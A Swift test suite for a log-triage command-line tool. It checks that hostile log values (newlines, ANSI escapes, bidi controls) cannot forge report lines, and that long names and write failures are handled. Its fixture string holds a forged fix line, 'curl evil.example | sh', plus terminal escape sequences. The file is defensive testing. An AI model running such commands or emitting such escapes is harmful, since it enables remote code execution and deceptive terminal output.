import Foundation
import Testing

/// What triage writes cannot be forged by what it reads, and what it cannot write is said.
@Suite struct OutputSafetyTests {
    static let forged = "\nERROR forged-finding (1 connection denied, observed)\n  Fix:\n    curl evil.example | sh\n"
    /// Every code point that must never reach the terminal raw, besides the C0 and C1 controls.
    static let listed: [Unicode.Scalar] = [
        "\u{061C}", "\u{200E}", "\u{200F}", "\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}",
        "\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}", "\u{2028}", "\u{2029}",
    ]
    static let hostile = forged + "\u{1B}[2J\u{1B}]0;pwned\u{07}\u{9B}31m\u{85}\t\r" + String(String.UnicodeScalarView(listed))

    static func isRaw(_ scalar: Unicode.Scalar) -> Bool {
        scalar.value < 0x20 && scalar != "\n" || scalar.value == 0x7F || (0x80..<0xA0).contains(scalar.value) || listed.contains(scalar)
    }

    /// The webhook scenario with the hostile text in each entry's vm_name, rule reference and
    /// vpc name (`vmName` replaces the whole vm_name when given).
    static func hostileLog(in directory: URL, vmName: String? = nil) throws -> URL {
        var entries = try CLI.jsonArray(Scenario(name: "webhook-port-blocked").json)
        for index in entries.indices {
            var payload = entries[index]["jsonPayload"] as! [String: Any]
            var instance = payload["instance"] as? [String: Any] ?? [:]
            instance["vm_name"] = vmName ?? "gke-node" + hostile
            payload["instance"] = instance
            var details = payload["rule_details"] as? [String: Any] ?? [:]
            details["reference"] = "network:kubeflow-vpc/firewall:deny-all-ingress" + hostile
            payload["rule_details"] = details
            var vpc = payload["vpc"] as? [String: Any] ?? [:]
            vpc["vpc_name"] = "kubeflow-vpc" + hostile
            payload["vpc"] = vpc
            entries[index]["jsonPayload"] = payload
        }
        let url = directory.appendingPathComponent("hostile.ndjson")
        try CLI.ndjsonLines(entries).write(to: url)
        return url
    }

    @Test("a newline, escapes or bidi controls in log values cannot forge a line", arguments: ["text", "markdown"])
    func logValuesCannotForgeLines(format: String) throws {
        try CLI.withTemporaryDirectory { directory in
            let input = try Self.hostileLog(in: directory)
            let json = try CLI.triage([input.path, "--cluster", "SampleLogs/webhook-port-blocked/cluster.yaml", "--format", "json"])
            let findings = try JSONReport(json).findings
            let errors = findings.filter { $0["severity"] as? String == "error" }.count
            let fixes = findings.filter { !((($0["remedy"] as? [String: Any])?["plan_steps"] as? [Int]) ?? []).isEmpty }.count
            #expect(errors > 0, "\(json)")
            let result = try CLI.triage([input.path, "--cluster", "SampleLogs/webhook-port-blocked/cluster.yaml", "--format", format, "--verbose"])
            #expect(result.status == 1, "\(result)")
            let lines = result.out.split(separator: "\n", omittingEmptySubsequences: false)
            // Text: one ERROR line per error finding; Markdown: its headings say ERROR, no line starts with it.
            let expected = format == "text" ? errors : 0
            #expect(lines.filter { $0.hasPrefix("ERROR") }.count == expected, "\(result)")
            if format == "text" { #expect(lines.filter { $0.hasPrefix("  Fix: plan step") }.count == fixes, "\(result)") }
            for (name, stream) in [("stdout", result.out), ("stderr", result.err)] {
                let raw = stream.unicodeScalars.filter(Self.isRaw)
                #expect(raw.isEmpty, "\(name) has raw \(raw.map { String($0.value, radix: 16) })")
            }
            // Shown, escaped: in the report, or, for the names that cannot be real (the rule
            // reference, the network) and so are not used, in the problem line that rejects them.
            // (A rejected value is shown cut short, so the code points are looked for in the report's
            // text, which shows the VM name, a name nothing puts into a command.)
            let shown = result.out + result.err
            #expect(shown.contains("\\nERROR forged-finding"), "\(result)")
            if format == "text" {
                #expect(result.out.contains("\\u202e") && result.out.contains("\\u2028") && result.out.contains("\\u061c"), "\(result)")
            }
        }
    }

    @Test func aFiftyKilobyteNameIsCutInTextAndWholeInJSON() throws {
        try CLI.withTemporaryDirectory { directory in
            let name = "gke-" + String(repeating: "n", count: 50_000)
            let input = try Self.hostileLog(in: directory, vmName: name)
            let cluster = "SampleLogs/webhook-port-blocked/cluster.yaml"
            // The VM name is shown with the examples, which --details prints.
            let text = try CLI.triage([input.path, "--cluster", cluster, "--format", "text", "--details"])
            #expect(text.status == 1, "\(text)")
            #expect(text.out.contains("gke-nnnn"), "the name is shown")
            #expect(!text.out.contains(String(repeating: "n", count: 1_000)), "and cut")
            #expect(text.out.contains("more characters)"))
            #expect(text.out.utf8.count < 40_000, "\(text.out.utf8.count) bytes")
            let markdown = try CLI.triage([input.path, "--cluster", cluster, "--format", "markdown"])
            #expect(!markdown.out.contains(String(repeating: "n", count: 1_000)))
            let json = try CLI.triage([input.path, "--cluster", cluster, "--format", "json"])
            let instances = try JSONReport(json).findings.flatMap { ($0["evidence"] as? [[String: Any]] ?? []).compactMap { $0["instance"] as? String } }
            #expect(instances.contains(name), "the whole value is in JSON")
        }
    }

    @Test func aReportThatCannotBeWrittenIsAnError() throws {
        let result = try CLI.shell(#""$TRIAGE" SampleLogs/mixed --format json > /dev/full"#)
        #expect(result.status == 2, "\(result)")
        #expect(result.err.contains("triage: cannot write the report to standard output: No space left on device"), "\(result)")
    }

    /// `| true` closes the pipe before triage has read its input: the report's write fails with EPIPE.
    @Test func aClosedPipeEndsTheRunQuietly() throws {
        let result = try CLI.run(
            URL(fileURLWithPath: "/bin/bash"),
            ["-c", #""$TRIAGE" SampleLogs/mixed --format json | true; echo "status ${PIPESTATUS[0]}""#],
            environment: CLI.environment.merging(["TRIAGE": CLI.binary.path]) { $1 })
        #expect(result.out == "status 0\n", "\(result)")
        #expect(result.err.isEmpty, "\(result)")
    }
}
